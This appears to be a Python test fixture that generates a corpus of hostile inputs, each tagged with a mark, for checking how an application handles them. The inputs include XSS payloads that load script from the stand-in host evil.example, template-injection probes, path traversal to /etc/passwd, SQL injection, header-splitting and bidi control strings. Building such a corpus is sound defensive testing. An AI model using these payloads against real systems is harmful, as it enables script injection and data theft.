"""Two hundred hostile texts, and a few very long ones, each with a mark by which a test finds it again."""

import re
from typing import Final

_MARKUP: Final = """
<script>{m}</script>
<ScRiPt src=//evil.example/{m}></sCrIpT>
</script><script>alert('{m}')</script>
</title><script>{m}</script>
</textarea><script>{m}</script>
</style><script>{m}</script>
</bdi></p><script>{m}</script>
</select></form><form action=//evil.example/{m}><button>x
--><script>{m}</script><!--
]]><script>{m}</script>
<!--{m}
<![CDATA[{m}]]>
<?php echo '{m}' ?>
<img src=x onerror=alert('{m}')>
<img src="x" onerror="alert('{m}')"
<img/src=x/onerror={m}>
<svg onload={m}>
<svg><script xlink:href=data:,{m}></script>
<svg><animate onbegin={m} attributeName=x>
<math href=javascript:{m}>x</math>
<body onload={m}>
<iframe src=javascript:{m}>
<iframe srcdoc="<script>{m}</script>">
<object data=javascript:{m}>
<embed src=javascript:{m}>
<base href=//evil.example/{m}/>
<meta http-equiv=refresh content=0;url=//evil.example/{m}>
<link rel=stylesheet href=//evil.example/{m}>
<style>@import '//evil.example/{m}';</style>
<p style=background:url(//evil.example/{m})>
<a href=javascript:{m}>x</a>
<a href="java&#9;script:{m}">x</a>
<a href=//evil.example/{m}>x</a>
<form action=/act/forget method=post><input name=record_ids value={m}>
<input autofocus onfocus={m}>
<details open ontoggle={m}>
<video><source onerror={m}></video>
<audio src=x onerror={m}>
<marquee onstart={m}>x</marquee>
<template><script>{m}</script></template>
<noscript><p title="</noscript><img src=x onerror={m}>">
<plaintext>{m}
<xmp>{m}
<isindex action=javascript:{m}>
<button hx-get=/act/forget hx-trigger=load>{m}
<div hx-on:click={m}>
<div data-key=f hx-post=/act/forget>{m}
<a href="#" data-opens="keys">{m}</a>
<dialog open>{m}</dialog>
<bdo dir=rtl>{m}</bdo>
<x onclick={m}>
<{m}
<{m}>
</{m}>
< script >{m}< / script >
<<script>>{m}<</script>>
<scr<script>ipt>{m}</scr</script>ipt>
%3Cscript%3E{m}%3C/script%3E
&lt;script&gt;{m}&lt;/script&gt;
&#60;script&#62;{m}&#60;/script&#62;
\\u003cscript\\u003e{m}\\u003c/script\\u003e
＜script＞{m}＜/script＞
+ADw-script+AD4-{m}+ADw-/script+AD4-
""".strip().splitlines()
_ATTRIBUTES: Final = """
" onmouseover="{m}
' onmouseover='{m}
" autofocus onfocus="{m}" x="
'><script>{m}</script>
"><script>{m}</script>
"><img src=x onerror={m}>
" style="background:url(//evil.example/{m})
" formaction="//evil.example/{m}
" hx-get="//evil.example/{m}" hx-trigger="load
" hx-on::load="{m}
" href="javascript:{m}
" srcdoc="<script>{m}</script>
"/><x y="{m}
`onmouseover={m}
\\" onmouseover=\\"{m}
&quot; onmouseover=&quot;{m}
&#34; onmouseover=&#34;{m}
" data-key="u" class="{m}
" id="page" x="{m}
" name="form_key" value="{m}
""".strip().splitlines()
_LINKS: Final = """
javascript:{m}
JaVaScRiPt:{m}
 javascript:{m}
java\tscript:{m}
javascript&colon;{m}
data:text/html,<script>{m}</script>
data:text/html;base64,PHNjcmlwdD4={m}
vbscript:{m}
//evil.example/{m}
\\\\evil.example\\{m}
/\\evil.example/{m}
https://evil.example/{m}
http:evil.example/{m}
file:///etc/passwd#{m}
view-source:{m}
../../../{m}
..%2f..%2f{m}
%2e%2e%2f{m}
/act/forget?record_ids={m}
?project={m}&q=x
#{m}
mailto:a@evil.example?subject={m}
""".strip("\n").splitlines()
_TEMPLATES: Final = """
{{ {m} }}
{{ 7 * 7 }} {m}
{% raw %}{m}
{% include '/etc/passwd' %}{m}
{% extends "base.html" %}{m}
{% set form_key = 1 %}{m}
{# {m} #}
{{ ''.__class__.__mro__[1].__subclasses__() }}{m}
{{ config }}{m}
{{ form_key }}{m}
${{m}}
#{{m}}
<%= {m} %>
{{{{m}}}}
{{constructor.constructor('{m}')()}}
%s %d %n {m}
{0} {title} {m}
`{m}` $({m})
{"record_ids": ["{m}"]}
[{m}](javascript:{m})
![{m}](//evil.example/{m})
""".strip().splitlines()
_CONTROL: Final = (
    *(
        "\x1b[31m{m}\x1b[0m",
        "\x1b]0;{m}\x07",
        "\x1b[2J{m}",
        "\x9b31m{m}",
        "\x1b]8;;//evil.example/{m}\x07x\x1b]8;;\x07",
    ),
    *(
        "{m}\x00<b>",
        "\x00{m}",
        "<\x00script>{m}</script>",
        "{m}\x08\x08\x08",
        "\x07{m}",
        "{m}\x7f",
        "{m}\x0c<b>",
        "\x0b{m}",
    ),
    *(
        "{m}\r\nset-cookie: a=b",
        "{m}\r\n\r\n<script>{m}</script>",
        "{m}\r<b>",
        "{m}\n<b>\n",
        "{m}\x85<b>",
        "{m}\u2028<b>",
    ),
    *(
        "\u202e{m}<b>",
        "\u202d{m}",
        "\u2066{m}",
        "\u2067{m}\u2069",
        "\u200f{m}\u200e",
        "\u061c{m}",
        "{m}\u202c\u202c\u202c",
    ),
    *("\u200b{m}\u200b", "\ufeff{m}", "{m}\u00ad", "\u2060{m}", "\ufff9{m}\ufffa<b>\ufffb", "\U000e0041\U000e0042{m}"),
    *("\U000e0001{m}", "{m}\ufe0f", "\u115f{m}", "\u3164{m}", "{m}\u034f", "\ufffe{m}", "\uffff{m}", "\ufdd0{m}"),
    *(
        "{m}" + "\u0301" * 500,
        "\u0489" * 300 + "{m}",
        "{m}\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "🏴\U000e0067{m}",
    ),
)
_BIG: Final = (
    *("{m}" + "x" * 5_000, "x" * 5_000 + "{m}", "{m} " + "<b>" * 2_000, "{m}" + "&" * 3_000, "{m}" + '"' * 3_000),
    *("{m}" + "漢" * 3_000, "{m}" + "\u202e" * 2_000, "{m}" + "\n" * 3_000, "{m} " + "a " * 3_000, "{m}" + "-" * 4_000),
    *(
        "<div>" * 1_500 + "{m}",
        "{m}" + "({" * 1_500,
        "{m}" + "\\" * 3_000,
        "{m}" + "👩‍👩‍👧‍👦" * 500,
        "{m}" + "\t" * 2_000,
    ),
)
_ODD: Final = (
    *(
        "{m}\u0130\u0131\u017f\u212a",
        "{m} 𝓈𝒸𝓇𝒾𝓅𝓉",
        "ｊａｖａｓｃｒｉｐｔ：{m}",
        "{m}</ſcript>",
        "<ſcript>{m}</ſcript>",
        "{m}'\"`<>&",
    ),
    *(
        "null {m}",
        "undefined {m}",
        "NaN {m}",
        "__proto__ {m}",
        "constructor {m}",
        "{m}; DROP TABLE records; --",
        "' OR '{m}'='",
    ),
    *("{m}\U0001d165", "\u2800{m}\u2800", "\ud7ff{m}\ue000", "{m}" + "\u00ad<" * 50),
)
TEXTS: Final = (*_MARKUP, *_ATTRIBUTES, *_LINKS, *_TEMPLATES, *_CONTROL, *_BIG, *_ODD)
LINES: Final = tuple(
    f"{{m}} {(one * 300_000).encode()[:500_000].decode(errors='ignore')}"
    for one in ("long words ", "x", '<b>&"', "\u202e\u05d0")
)
"""Lines of half a megabyte, as long as a message may be."""
MARK: Final = re.compile(r"q[a-z]{3,}z\d{5}")
"""The mark of a text. It is longer than the random part of a record's id, which could otherwise look like one."""


def mark_of(number: int, field: str) -> str:
    """The mark of the text of a number for a field."""
    return f"q{field}z{number:05}"


def field_of(mark: str) -> str:
    """The field of a mark."""
    return mark[1:-6]


def payload(number: int, field: str, most: int = 600_000, *, is_name: bool = False) -> str:
    """The text of a number for a field, with a mark of the two. A name has no ASCII control characters."""
    mark = mark_of(number, field)
    text = (*TEXTS, *LINES)[number].replace("{m}", mark)
    text = re.sub("[\x00-\x1f\x7f]", "", text).strip() if is_name else text
    return text[:most] if mark in text[:most] else f"{mark} {text}"[:most]
